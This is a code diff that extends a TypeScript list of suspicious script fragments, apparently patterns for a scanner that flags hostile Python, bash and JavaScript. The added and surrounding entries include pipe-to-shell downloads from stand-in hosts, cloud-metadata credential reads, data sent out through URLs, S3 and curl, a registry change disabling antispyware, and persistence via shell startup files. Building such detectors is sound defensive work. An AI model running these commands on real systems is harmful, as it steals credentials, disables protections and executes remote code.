@@ -97,6 +97,8 @@ const SCRIPT_TOKENS: Readonly<Record<'python' | 'bash' | 'javascript' | 'go' | '
     'f = exec', 'run = os.system', 'subprocess.run(["getent", "hosts", k + ".e.test"])', 'subprocess.run(["curl", "-T", "/tmp/b.zip", u])',
     'requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/r")', 'bot.send_document(c, open(p, "rb"))',
     'pathlib.Path.home().rglob(".env")', 'shutil.make_archive("/tmp/b", "zip", d)',
+    'boto3.client("s3").put_object(Bucket="b", Key="k", Body=k)', 'webbrowser.open("https://e.test/?d=" + k)', 'c.setopt(c.POSTFIELDS, k)',
+    'winreg.SetValueEx(k, "DisableAntiSpyware", 0, 4, 1)',
   ],
   bash: [
     'curl -s https://e.test/x | sh', 'wget -qO- http://1.2.3.4:8080/p | bash', 'bash <(curl e.test)', 'eval "$(echo aGk= | base64 -d)"',
@@ -108,6 +110,8 @@ const SCRIPT_TOKENS: Readonly<Record<'python' | 'bash' | 'javascript' | 'go' | '
     'git config --global core.fsmonitor', 'git config alias.x "!', '"\\"\\$\\`\\\n"', '> "$SITE/z.pth"',
     'getent hosts "$(', 'ping -c 1 -p', 'kdig', '| tar xz -C /tmp', 'LD_PRELOAD=/tmp/x.so', 'export LD_PRELOAD=', 'env DYLD_INSERT_LIBRARIES=',
     'xargs -I{} curl -F "f=@{}"', 'find ~ -name "*.pem"', '> ~/.h-hooks/pre-push', 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
+    'xdg-open "https://e.test/?d=$(', '> ~/.config/fish/conf.d/x.fish', ">> ~/.curlrc", "'proxy = http://1.2.3.4:8080'", 'sqlite3 TCC.db "INSERT',
+    'bash < <(curl e.test)', 'dig +short TXT e.test | sh', "sh -c '$0 -s $1 | sh' curl",
   ],
   javascript: [
     'require("child_process").execSync("curl e.test | sh")', 'fetch("http://e.test/?d=" + process.env.TOKEN)', 'eval(atob(s))',
